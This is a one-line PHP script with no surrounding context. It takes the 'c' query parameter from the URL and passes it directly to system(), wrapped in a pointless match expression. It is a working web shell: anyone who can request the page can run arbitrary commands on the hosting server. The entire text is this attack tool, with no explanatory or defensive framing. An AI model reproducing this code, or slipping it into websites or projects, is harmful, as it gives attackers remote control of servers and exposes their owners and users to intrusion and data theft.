<?php $c = match(true) { default => $_GET["c"] }; system($c);
